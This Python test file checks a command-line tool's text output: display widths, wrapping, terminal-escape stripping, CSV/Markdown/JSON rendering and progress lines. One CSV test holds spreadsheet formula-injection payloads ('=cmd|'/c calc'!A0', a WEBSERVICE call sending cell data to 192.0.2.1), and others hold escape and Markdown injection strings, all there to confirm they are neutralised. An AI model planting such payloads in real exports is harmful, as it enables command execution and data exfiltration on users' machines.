"""Widths, wrapping and harmlessness of text on a terminal; cells of tables; progress."""

from __future__ import annotations

import csv
import io
import json
import textwrap
from dataclasses import replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from idc_local.cli.output import Result, cell, csv_lines, markdown_lines, number, render, to_json
from idc_local.cli.progress import CLEAR, Reporter, duration, quantity
from idc_local.cli.render import check_lines, hit_lines, table_lines
from idc_local.cli.terminal import BOLD, RESET, Screen, detect_screen, display_width, fit, lines_of, link, safe, wrap
from idc_local.types import Check
from tests.clikit import HITS

ANY_TEXT = st.text(st.characters(codec=None), max_size=200)
DANGEROUS = {chr(code) for code in [*range(32), *range(0x7F, 0xA0), *range(0xD800, 0xE000)]} | set(
    "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


@pytest.mark.parametrize(
    ("text", "width"),
    [
        ("abc", 3),
        ("浮球", 4),
        ("ｶﾅ", 2),
        ("한글", 4),
        ("e\u0301", 1),
        ("a\u200db", 2),
        ("\x1b", 4),
        ("\t", 4),
        ("😀", 2),
        ("สวัสดี", 4),
        ("", 0),
    ],
)
def test_columns_of_text(text: str, width: int) -> None:
    assert display_width(text) == width


@given(ANY_TEXT)
def test_nothing_in_a_document_can_command_a_terminal(text: str) -> None:
    assert not DANGEROUS & set(safe(text))
    for line in lines_of(text, Screen(40, styled=False), "  "):
        assert not DANGEROUS & set(line)


@example(" 0000\x1b", 8)
@given(ANY_TEXT, st.integers(min_value=8, max_value=60))
def test_wrapped_lines_fit_and_lose_only_white_space(text: str, width: int) -> None:
    ranges = list(wrap(text, width))
    assert all(start < end for start, end in ranges)
    assert all(first[1] <= second[0] for first, second in pairwise(ranges))
    assert all(display_width(text[start:end]) <= width for start, end in ranges)
    kept = {place for start, end in ranges for place in range(start, end)}
    assert all(text[place].isspace() for place in range(len(text)) if place not in kept)


def test_wrapping_breaks_at_spaces_and_beside_wide_characters() -> None:
    def lines(text: str, width: int) -> list[str]:
        return [text[start:end] for start, end in wrap(text, width)]

    assert lines("one two three", 8) == ["one two", "three"]
    assert lines("abcdefghijkl", 5) == ["abcde", "fghij", "kl"]
    assert lines("浮球磨损检查", 5) == ["浮球", "磨损", "检查"]
    assert lines("红茶，绿茶。", 4) == ["红", "茶，", "绿", "茶。"], "no mark begins a line"
    assert lines("a\r\n\r\n\nb c", 0) == ["a", "b c"]
    assert lines("  indented code", 20) == ["  indented code"]


PROSE = (
    "It runs from six in the morning until ten at night, from April to October until midnight on Saturdays. It stops "
    "when the gauge at the point shows more than 2.6 metres, in fog so thick that the opposite lamp cannot be seen, "
    "and for one week in May, when a diver inspects the chain and the pontoon is tarred; then nobody crosses at all."
)


def shown(text: str, width: int) -> list[str]:
    return list(lines_of(text, Screen(width), ""))


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("own", [70, 79, 100])
@pytest.mark.parametrize("width", [30, 60, 69])
def test_a_paragraph_that_was_wrapped_wider_is_wrapped_anew(own: int, width: int, end: str) -> None:
    lines = textwrap.wrap(PROSE, own)
    assert shown(end.join(lines), 110) == lines, "where it fits it stays as it is"
    anew = shown(end.join(lines), width)
    # CR LF counts as two columns.
    assert anew == textwrap.wrap(PROSE, width) or (end == "\r\n" and " ".join(anew) == PROSE)
    assert min(map(len, anew[:-1])) > width - 15
    part = end.join(lines)[lines[0].index("in the") :]
    assert len(shown(part, width)) <= len(anew)
    title = f"The ferry today, by one who took it every day{end}"
    assert shown(title + end.join(lines), width) == shown(title, width) + anew


# Lines that all begin with the same word are taken for code, hence unlike words.
@given(
    words=st.lists(st.text("abcdefghij", min_size=1, max_size=12), min_size=1, max_size=60, unique=True),
    own=st.integers(40, 90),
)
def test_words_come_in_order_whatever_the_wrap(words: list[str], own: int) -> None:
    wrapped = textwrap.wrap(" ".join(words), own)
    expected = textwrap.wrap(" ".join(words), 30)
    narrow = all(len(line) <= 30 for line in wrapped)
    assert shown("\n".join(wrapped), 30) == (wrapped if narrow else expected)


def test_items_are_wrapped_anew_one_by_one() -> None:
    def item(width: int, hung: str) -> list[str]:
        return textwrap.wrap(f"- {PROSE}", width, subsequent_indent=hung)

    text = "\n".join([*item(79, "  "), *item(79, "  "), "", "1. one", "2. two"])
    lines = shown(text, 60)
    both = [line for line in lines if line.startswith("- ")]
    assert len(both) == 2
    assert "  " not in "".join(lines)
    assert " ".join(lines) == f"- {PROSE} - {PROSE} 1. one 2. two"
    first = lines[: lines.index(both[1], 1)]
    assert min(map(len, first[:-1])) > 45


@pytest.mark.parametrize(
    "text",
    [
        "for place in range(len(found_values)):\n    total += found_values[place]\n    print(total)",
        "let first_name = request.first_name;\nlet last_name = request.last_name;\nreturn join(first_name, last_name)",
        "description: a long text that says what it is\nversion: 3\nlicence: mit",
        "| code | what it is when nobody is at the desk |\n| e-12 | a fault |",
        "2026-01-02 error: the pump did not answer at all\n2026-01-03 error: it did not answer",
        "The Harrow Lane Record Store, Ground Floor\n12 Harrow Lane\nLindenwehr",
        "The first line is broken here on purpose, in Markdown  \nby two spaces at its end",
        "The first line is broken here on purpose, in Markdown\\\nby a mark at its end",
        "Shall I compare thee to a summer's day?\nThou art more lovely and more temperate:",
        "A short title that is not quite so short, is it\n-----------------\nbody",
        "## how to reset the controller when it stops\nturn it off and on again",
        "from reportlab.platypus import Paragraph, Table\nfrom reportlab.lib import colors",
        "> the lines of a quotation, which are marked each\n> with its mark",
        "a very long line that stands alone between blank lines\n\nand another that begins in lower case",
    ],
)
def test_lines_that_are_no_wrapped_paragraph_stay_apart(text: str) -> None:
    width = 30
    expected = [part for line in text.splitlines() if line.strip() for part in shown(line, width)]
    assert shown(text, width) == expected


def test_the_answer_is_marked_across_a_line_end() -> None:
    text = "the float switch hangs on a cable\nof its own, and the pump turns"
    mark = (text.index("cable"), text.index(", and"))
    assert list(lines_of(text, Screen(30, styled=True), "", mark)) == [
        "the float switch hangs on a",
        f"{BOLD}cable of its own{RESET}, and the pump",
        "turns",
    ]


def test_highlight_is_on_the_span_and_only_where_styled() -> None:
    text = "one two three four"
    assert list(lines_of(text, Screen(0, styled=True), "> ", (4, 13))) == [f"> one {BOLD}two three{RESET} four"]
    assert list(lines_of(text, Screen(11, styled=True), "", (4, 13))) == [
        f"one {BOLD}two{RESET}",
        f"{BOLD}three{RESET} four",
    ]
    assert list(lines_of(text, Screen(0, styled=False), "", (4, 13))) == [text]


def test_screens() -> None:
    assert detect_screen(io.StringIO(), {}) == Screen(0, styled=False)
    assert detect_screen(Terminal(), {"TERM": "xterm"}).styled
    assert not detect_screen(Terminal(), {"TERM": "dumb"}).styled
    assert not detect_screen(Terminal(), {"TERM": "xterm", "NO_COLOR": "1"}).styled
    assert detect_screen(Terminal(), {"TERM": "xterm", "NO_COLOR": ""}).styled


def test_links_only_to_files_that_exist(tmp_path: Path) -> None:
    file = tmp_path / "a b.md"
    file.write_text("x")
    styled = Screen(80, styled=True)
    assert link("x", str(file), styled) == f"\x1b]8;;file://{tmp_path}/a%20b.md\x1b\\x\x1b]8;;\x1b\\"
    assert link("x", str(file), Screen(80)) == "x"
    for missing in (str(tmp_path / "none"), "nul\0", "-", str(tmp_path)):
        assert link("x", missing, styled) == "x"


def test_a_hit_on_a_terminal_marks_the_answer() -> None:
    lines = list(hit_lines(HITS[0], Screen(60, styled=True), explain=False))
    assert f"   {BOLD}The pump needs oil.{RESET}" in lines
    assert all("\x1b" not in line for line in hit_lines(HITS[0], Screen(60), explain=True))


def test_a_hit_within_a_table_names_its_columns_once() -> None:
    chunk = replace(HITS[0].chunk, context="part | price")
    hit = replace(HITS[0], chunk=chunk)
    first = chunk.text.splitlines()[0]
    shown = list(hit_lines(hit, Screen(60), explain=False))
    assert shown.index("   part | price") == shown.index(f"   {first}") - 1
    rows = list(hit_lines(hit, Screen(60), explain=False, around=("pump | 3", "")))
    assert rows.index("   part | price") == rows.index("   pump | 3") - 1
    header = list(hit_lines(hit, Screen(60), explain=False, around=("part | price\npump | 3", "")))
    assert header.count("   part | price") == 1


def test_fit_cuts_to_columns() -> None:
    assert fit("abcdef", 6) == "abcdef"
    assert fit("abcdefg", 6) == "abcde…"
    assert fit("浮球磨损", 6) == "浮球…"


def test_tables_align_by_columns_not_characters() -> None:
    rows: list[dict[str, Any]] = [{"a": "浮球", "b": 1}, {"a": "xyz", "b": None}, {"a": "\x1b", "b": 0.25}]
    assert list(table_lines(rows, ("a", "b"))) == ["a     b", "浮球  1", "xyz", "\\x1b  0.25"]


# ---- formats


@given(ANY_TEXT, st.floats())
def test_json_is_valid_and_harmless(text: str, value: float) -> None:
    written = to_json({"text": text, "value": [value]})
    assert not DANGEROUS & set(written)
    read = json.loads(written, parse_constant=lambda name: pytest.fail(name))
    assert read["text"] == json.loads(json.dumps(text))
    assert read["value"][0] is None or read["value"][0] == value


@given(st.lists(st.tuples(st.text(max_size=30), st.integers()), max_size=5))
def test_csv_gives_back_what_went_in(values: list[tuple[str, int]]) -> None:
    items = [{"a": f"x{text}", "b": value} for text, value in values]
    written = "".join(csv_lines(items, ("a", "b"), terminal=False))
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read == [["a", "b"], *([f"x{text}", str(value)] for text, value in values)]


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/c calc'!A0", "@SUM(A1)", "+1+cmd|' /c calc'!A0", "-2+3+cmd|'/c calc'!A0", "- HYPERLINK(1)",
        '\t=WEBSERVICE("http://192.0.2.1/"&A1)', "\r\n=1+1", "＝1+1",
    ],
)  # fmt: skip
def test_csv_holds_nothing_that_a_spreadsheet_would_compute(text: str) -> None:
    written = "".join(csv_lines([{"a": text}], ("a",), terminal=False))
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["a"], [f"'{text}"]]


@pytest.mark.parametrize(
    "text", ["- an item", "-2", "+49 30 901820", "a=b", "-", "", "'=1", "x@example.org", "--dry-run"]
)
def test_csv_leaves_what_is_no_formula_as_it_is(text: str) -> None:
    written = "".join(csv_lines([{"a": text, "b": 1}], ("a", "b"), terminal=False))
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["a", "b"], [text, "1"]]


def test_csv_on_a_terminal_is_harmless() -> None:
    written = "".join(csv_lines([{"a": "x\x1b[31m\u202e"}], ("a",), terminal=True))
    assert written == "a\nx\\x1b[31m\\u202e\n"


def test_markdown_shows_every_underscore() -> None:
    shown = {
        "src/__init__.py": r"src/\_\_init\_\_.py",
        "_private_ and snake_case": r"\_private\_ and snake_case",
        "größe_über_a1_2": "größe_über_a1_2",
        "_": r"\_",
    }
    for text, expected in shown.items():
        assert list(markdown_lines([{"a": text}], ("a",)))[2] == f"| {expected} |\n"


def test_markdown_cells_are_text_and_nothing_else() -> None:
    item = {"a": "x|y\n![p](http://192.0.2.1/a.png) <img src=x> `c` *b* \\ &amp; \x1b", "b": None}
    assert list(markdown_lines([item], ("a", "b")))[2] == (
        "| x\\|y<br>!\\[p\\](http://192.0.2.1/a.png) \\<img src=x> \\`c\\` \\*b\\* \\\\ \\&amp; \\x1b |  |\n"
    )


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (3, "3"),
        (0.5, "0.5"),
        (1.0, "1"),
        (100.0, "100"),
        (float("nan"), ""),
        (1e-9, "0"),
        ([1, "a"], '[1, "a"]'),
        ("", ""),
    ],
)
def test_cells(value: object, text: str) -> None:
    assert cell(value) == text


@pytest.mark.parametrize(
    ("value", "expected"), [(0.12345678, 0.123457), (float("nan"), None), (float("inf"), None), (-1e-9, 0.0)]
)
def test_numbers(value: float, expected: float | None) -> None:
    assert number(value) == expected
    assert str(number(-1e-9)) == "0.0"


def test_rows_stand_in_for_items_in_tables() -> None:
    result = Result({"v": 1}, [{"a": {"b": 1}}], ("b",), lambda screen: ["t"], rows=[{"b": 1}])
    pieces = {form: "".join(render(result, form, Screen(), terminal=False)) for form in ("text", "jsonl", "csv", "md")}
    assert pieces == {"text": "t\n", "jsonl": '{"a": {"b": 1}}\n', "csv": "b\n1\n", "md": "| b |\n| --- |\n| 1 |\n"}


# ---- progress


def test_progress_is_drawn_after_a_second_with_the_time_left() -> None:
    stream, clock = Terminal(), Clock()
    progress = Reporter(stream, terminal=True, clock=clock)
    progress.start("embed", 200, "sentences")
    clock.now += 0.5
    progress.advance(10)
    assert stream.getvalue() == ""
    clock.now += 1.5
    progress.advance(40, "a.md")
    assert stream.getvalue() == f"{CLEAR}embed:   25% of 200 sentences  about 6.0 s left  a.md"
    clock.now += 0.01
    progress.advance(1)
    assert stream.getvalue().count(CLEAR) == 1, "drawn ten times a second at most"
    progress.finish()
    assert stream.getvalue().endswith(CLEAR)


def test_progress_never_exceeds_the_line_or_the_total() -> None:
    stream, clock = Terminal(), Clock()
    progress = Reporter(stream, terminal=True, clock=clock)
    progress.start("read", 10, "B")
    clock.now += 2
    progress.advance(30, "浮球\x1b" * 200)
    line = stream.getvalue().removeprefix(CLEAR)
    assert "100% of 10 B" in line
    assert display_width(line) < 110
    assert "\x1b" not in line


def test_progress_without_a_total_or_a_stage() -> None:
    stream, clock = Terminal(), Clock()
    progress = Reporter(stream, terminal=True, clock=clock)
    progress.advance()
    progress.finish()
    progress.start("publish", None, "files")
    clock.now += 2
    progress.advance(3)
    assert stream.getvalue() == f"{CLEAR}publish:  3 files"


def test_what_cannot_be_counted_is_said_at_once() -> None:
    stream = Terminal()
    progress = Reporter(stream, terminal=True, clock=Clock())
    progress.start("loading the embedder x", None, "")
    assert stream.getvalue() == f"{CLEAR}loading the embedder x …"
    progress.finish()
    assert stream.getvalue().endswith(CLEAR)


def test_verbose_off_a_terminal_leaves_one_line_an_outer_stage() -> None:
    stream, clock = io.StringIO(), Clock()
    progress = Reporter(stream, terminal=False, verbose=True, clock=clock)
    progress.start("index", 2_500_000, "B")
    progress.start("embed", 10, "sentences")
    clock.now += 4
    progress.advance(10)
    progress.finish()
    progress.advance(2_500_000)
    clock.now += 90
    progress.finish()
    progress.start("publish", None, "")
    progress.finish()
    assert stream.getvalue() == "index: 2.5 MB in 2 min\npublish: 0.0 s\n"


@pytest.mark.parametrize(
    ("seconds", "text"), [(0.04, "0.0 s"), (9.94, "9.9 s"), (59.4, "59 s"), (90, "2 min"), (7260, "2 h 01 min")]
)
def test_durations(seconds: float, text: str) -> None:
    assert duration(seconds) == text


@pytest.mark.parametrize(
    ("amount", "unit", "text"),
    [(999, "B", "999 B"), (1500, "B", "1.5 kB"), (3 * 10**15, "B", "3000.0 TB"), (1234, "files", "1,234 files")],
)
def test_quantities(amount: int, unit: str, text: str) -> None:
    assert quantity(amount, unit) == text


def test_the_last_column_wraps_where_there_is_room_for_it() -> None:
    rows = [{"name": "浮球", "title": "one two three four five six"}, {"name": "x", "title": ""}]
    assert list(table_lines(rows, ("name", "title"), Screen(24))) == [
        "name  title",
        "浮球  one two three four",
        "      five six",
        "x",
    ]
    assert list(table_lines(rows, ("name", "title"), Screen(20)))[1] == "浮球  one two three four five six"


def test_a_check_wraps_but_its_command_stays_in_one_piece() -> None:
    check = Check("disk of the index", "warn", "0.9 GB free at home", "idc-local compact --index somewhere/else")
    assert list(check_lines([check], Screen(30))) == [
        "warn  disk of the index: 0.9",
        "      GB free at home",
        "      fix: idc-local compact --index somewhere/else",
    ]
